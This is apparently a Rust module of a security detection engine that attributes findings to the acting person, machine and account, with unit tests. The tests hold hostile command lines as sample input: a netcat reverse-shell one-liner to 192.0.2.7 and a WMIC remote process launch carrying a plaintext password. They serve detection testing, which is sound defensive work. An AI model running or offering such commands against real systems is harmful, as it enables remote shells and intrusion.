//! Who acted, and what was acted upon: machine, process and account of both sides.
//!
//! A record is often written by a service under the machine's own account. Such an account acted for nobody here: the
//! person is the network logon that came in, the login behind `sudo`, or the account that a command line names.

use std::time::Duration;

use backchannel_events::{Activity, Finding, Party, ProcessEvent, Reasons, Side, SideProcess, User};

use crate::actor::{Actor, account};
use crate::context::{Context, command_line};
use crate::evidence::Direction;
use crate::memory::KnownLogon;
use crate::text::addresses::is_loopback;
use crate::{Evidence, predicates};

/// A network logon belongs to what comes from the same machine within this time after it.
const LOGGED_ON: Duration = Duration::from_secs(300);
/// Its record may be this much later than what happened under it.
const LATE: Duration = Duration::from_secs(2);

/// A loopback or an own address is no other machine: nothing crossed machines then.
pub fn stay_here(evidence: &mut Evidence, context: &Context<'_>) {
    let Some(channel) = &mut evidence.channel else { return };
    // Analytics leave out a peer that is this machine: the record still says so.
    let peer = match &context.event().activity {
        Activity::ChannelConnect(open) if channel.peer.is_empty() => open.peer,
        _ => channel.peer.as_str(),
    };
    let own = !peer.is_empty() && (context.host.addresses.is_own(peer) || context.is_this_host(peer));
    let crossed = evidence.direction != Direction::Local;
    if own && (crossed || is_loopback(peer)) {
        evidence.direction = Direction::Local;
        channel.remote &= !crossed;
        evidence.reasons = evidence.reasons.without(Reasons::LATERAL_MOVEMENT);
    }
}

/// Sets origin, target and account of a finding. A process belongs to the machine that logged it; of the other one, only
/// what the records say is known: its address or name, and the account that was used.
pub fn settle(
    finding: &mut Finding,
    direction: Direction,
    acted: Option<Party>,
    target_account: String,
    context: &Context<'_>,
) {
    let process = |party: Option<&Party>| party.map(SideProcess::from);
    let (client, server) = (finding.client.clone(), finding.server.clone());
    let (client, server) = (client.as_ref(), server.as_ref());
    let mut peer = finding.channel.as_ref().map_or("", |channel| channel.peer.as_str()).to_owned();
    let here = finding.host.clone();
    let named = |account: String, otherwise: &str| if account.is_empty() { otherwise.to_owned() } else { account };
    match direction {
        Direction::Local => {
            if let Some(acted) = &acted {
                finding.user.clone_from(&acted.user);
            } else {
                finding.user = person(context).unwrap_or_else(|| std::mem::take(&mut finding.user));
                forget_writer(context, &mut finding.user);
            }
            let user = finding.user.clone();
            if let Some(acted) = &acted {
                // What was made to act is the other one of the two.
                let same = |party: &Party| party.pid == acted.pid && party.name.eq_ignore_ascii_case(&acted.name);
                let other = [client, server].into_iter().flatten().find(|party| !same(party));
                let account = named(target_account, other.map_or("", |party| &party.user));
                finding.origin = Side { host: here.clone(), process: process(Some(acted)), account: user };
                finding.target = Side { host: here, process: process(other), account };
                return;
            }
            let served = server.map_or(user.as_str(), |party| &party.user);
            let account = named(target_account, served);
            finding.origin = Side { host: here.clone(), process: process(client.or(server)), account: user.clone() };
            finding.target = Side { host: here, process: process(server.filter(|_| client.is_some())), account };
        }
        Direction::Inbound => {
            let target = server.or(client);
            let account = target.map_or(finding.user.as_str(), |party| &party.user).to_owned();
            if wrote_only(context, &finding.user) {
                let logon = came_in(context, &peer);
                finding.user = logon.map_or_else(String::new, logon_account);
                if peer.is_empty()
                    && let Some(logon) = logon
                {
                    peer = logon.address.to_string();
                }
            }
            finding.origin = Side { host: peer, process: None, account: finding.user.clone() };
            finding.target = Side { host: here, process: process(target), account: named(target_account, &account) };
        }
        Direction::Outbound => {
            finding.user = person(context).unwrap_or_else(|| std::mem::take(&mut finding.user));
            forget_writer(context, &mut finding.user);
            let line = client.or(server).map_or("", |party| party.command_line.as_str());
            let account = if target_account.is_empty() { there(line, context.event()) } else { target_account };
            let acted = acted.as_ref().or(client).or(server);
            finding.origin = Side { host: here, process: process(acted), account: finding.user.clone() };
            finding.target = Side { host: peer, process: None, account };
        }
    }
}

/// The account that a command line, or the script at hand, names for the other machine.
fn there(line: &str, event: &ProcessEvent<'_>) -> String {
    let script = match &event.activity {
        Activity::Script(script) => script.text,
        _ => "",
    };
    command_line::account(line).or_else(|| command_line::account(script)).unwrap_or_default()
}

/// The person behind the event's process, where its own account is not a person's: the login behind `sudo`, `su` or a
/// program with the set-user-id bit, or the account that the process is known to run as.
fn person(context: &Context<'_>) -> Option<String> {
    let subject = context.subject();
    let user = subject.user;
    let login = user.audit_id;
    if !user.acting_id().is_empty() && is_login(login) && login != user.acting_id() {
        return Some(login_name(context, login));
    }
    let known = subject.known?.user();
    (predicates::is_service_principal(user) && !predicates::is_service_principal(known) && known != User::default())
        .then(|| account(known))
}

/// Whether a login uid is a person's: neither unset nor a service's.
fn is_login(audit_id: &str) -> bool {
    audit_id.parse::<u32>().is_ok_and(|uid| (1_000..u32::MAX).contains(&uid))
}

/// The name of a login uid, where a remembered process of it has one.
fn login_name(context: &Context<'_>, uid: &str) -> String {
    let mut own =
        context.host.processes.latest_first().filter(|known| *known.user_id == *uid && !known.user_name.is_empty());
    own.next().map_or_else(|| uid.to_owned(), |known| account(known.user()))
}

/// Whether the account only wrote the record: the system's own, or this machine's. Another machine's account is who came.
fn wrote_only(context: &Context<'_>, name: &str) -> bool {
    // Who logs on is who came, be it a machine.
    if let Activity::Logon(logon) = &context.event().activity
        && !name.is_empty()
        && account(logon.user) == name
    {
        return false;
    }
    let user = context.subject().user;
    if name.is_empty() || is_system(user, name) {
        return true;
    }
    name.strip_suffix('$').is_some_and(|machine| context.is_this_host(machine.rsplit('\\').next().unwrap_or(machine)))
}

/// A record of no process under no name but a SID of the system says who wrote it, and not who acted.
fn forget_writer(context: &Context<'_>, account: &mut String) {
    if context.subject().is_unknown() && matches!(account.as_str(), "S-1-5-18" | "S-1-5-19" | "S-1-5-20") {
        account.clear();
    }
}

fn is_system(user: User<'_>, name: &str) -> bool {
    let bare = name.rsplit('\\').next().unwrap_or(name);
    let stated = User { id: if name.starts_with("S-1-") { name } else { "" }, name: bare, ..User::default() };
    let domain = name.rsplit_once('\\').map_or("", |(domain, _)| domain);
    let of_record = account(user) == name && user.name.is_empty() && predicates::is_service_principal(user);
    let service = predicates::is_service_principal(User { domain, ..stated });
    of_record || (service && !bare.ends_with('$'))
}

/// The network logon that what came in belongs to: the process's own, or the latest one from that machine shortly before.
/// Where no record names the machine, only one that is alone.
fn came_in<'c>(context: &Context<'c>, peer: &str) -> Option<&'c KnownLogon> {
    let own = &context.host.addresses;
    let is_person = |logon: &KnownLogon| {
        let user = User { id: &logon.user_id, name: &logon.user_name, domain: &logon.user_domain, ..User::default() };
        !predicates::is_service_principal(user)
    };
    let of = |actor: Actor<'_>| context.logon_of(actor).filter(|logon| logon.is_remote(own) && is_person(logon));
    if let Some(logon) = of(context.subject()).or_else(|| of(context.parent())) {
        return Some(logon);
    }
    let time = context.event().time;
    let near = |logon: &&KnownLogon| {
        logon.is_remote(own)
            && is_person(logon)
            && logon.note.time <= time + LATE
            && logon.note.time.within(LOGGED_ON, time)
            && (peer.is_empty() || *logon.address == *peer || logon.workstation.eq_ignore_ascii_case(peer))
    };
    let mut candidates: Vec<&KnownLogon> = context.host.logons.iter().map(|(_, logon)| logon).filter(near).collect();
    candidates.sort_by_key(|logon| logon.note.time);
    let latest = candidates.last().copied()?;
    let alone = candidates.iter().all(|logon| logon.user_name == latest.user_name && logon.address == latest.address);
    (!peer.is_empty() || alone).then_some(latest)
}

fn logon_account(logon: &KnownLogon) -> String {
    account(User { id: &logon.user_id, name: &logon.user_name, domain: &logon.user_domain, ..User::default() })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::testing::*;
    use crate::{Detector, Tunables};

    /// The last finding of an analytic.
    fn last(id: &str, events: &[Event]) -> Finding {
        let mut found: Option<Finding> = None;
        let mut detector = Detector::new(Tunables::default());
        for event in events {
            detector.evaluate(event, &mut |finding: &Finding| {
                if finding.analytic == id {
                    found = Some(finding.clone());
                }
            });
        }
        found.unwrap()
    }

    #[test]
    fn what_a_command_line_names_is_the_account_used_there() {
        let line = r"wmic /node:10.9.9.9 /user:CORP\ops.lind /password:Frost7 process call create calc";
        let event = start(0, r"C:\Windows\System32\wbem\WMIC.exe", line).pid(7).user("CORP", "bo");
        let found = last("IPC-WMI-005", &[event]);
        assert_eq!((found.origin.host.as_str(), found.origin.account.as_str()), ("ws01", r"CORP\bo"));
        assert_eq!((found.target.host.as_str(), found.target.account.as_str()), ("10.9.9.9", r"CORP\ops.lind"));
        assert!(found.client.unwrap().command_line.contains("/password:****"));
        assert!(found.evidence.iter().all(|one| !one.text.contains("Frost7")));
    }

    #[test]
    fn secrets_are_shown_where_the_site_wants_them() {
        let line = "wmic /node:10.9.9.9 /password:Frost7 process call create calc";
        let event = start(0, r"C:\Windows\System32\wbem\WMIC.exe", line).pid(7).user("CORP", "bo");
        let mut detector = Detector::new(Tunables { show_secrets: true, ..Tunables::default() });
        let mut lines = Vec::new();
        detector.evaluate(&event, &mut |finding: &Finding| {
            lines.push(finding.client.as_ref().map_or_else(String::new, |party| party.command_line.clone()));
        });
        assert!(lines.iter().any(|line| line.contains("Frost7")), "{lines:?}");
    }

    #[test]
    fn the_network_logon_is_who_came_in_where_the_system_wrote_the_record() {
        let events = [
            logon(0, 3, 0x77, "ops", "10.9.9.9"),
            flow_in(1, 445, "10.9.9.9", 50_000),
            pipe_remote(2, r"\PSEXESVC").user("NT AUTHORITY", "SYSTEM"),
        ];
        let found = last("IPC-PIPE-004", &events);
        assert_eq!((found.origin.host.as_str(), found.origin.account.as_str()), ("10.9.9.9", r"CORP\ops"));
        assert_eq!(found.user, r"CORP\ops");
        let nobody = last("IPC-PIPE-004", &events[1..]);
        assert_eq!(nobody.origin.account, "", "no record says who");
    }

    #[test]
    fn an_own_address_is_no_other_machine() {
        let event = pipe_opened_from(0, r"\PSEXESVC", "::1", 0x12019f).user("CORP", "ops");
        let found = last("IPC-PIPE-004", &[event]);
        assert_eq!((found.origin.host.as_str(), found.target.host.as_str()), ("ws01", "ws01"));
        assert!(!found.reasons.contains(backchannel_events::Reason::LateralMovement));
        assert!(found.techniques.iter().all(|technique| !technique.starts_with("T1021")), "{:?}", found.techniques);
    }

    #[test]
    fn behind_root_stands_the_login() {
        let command = "/bin/sh -c rm -f /tmp/q;mkfifo /tmp/q;cat /tmp/q|/bin/sh -i 2>&1|nc 192.0.2.7 9001 >/tmp/q";
        let event = start(0, "/usr/bin/dash", command).pid(10).uids("0", "0", "1207");
        let found = last("IPC-UX-012", &[event]);
        assert_eq!((found.user.as_str(), found.origin.account.as_str()), ("1207", "1207"));
    }
}
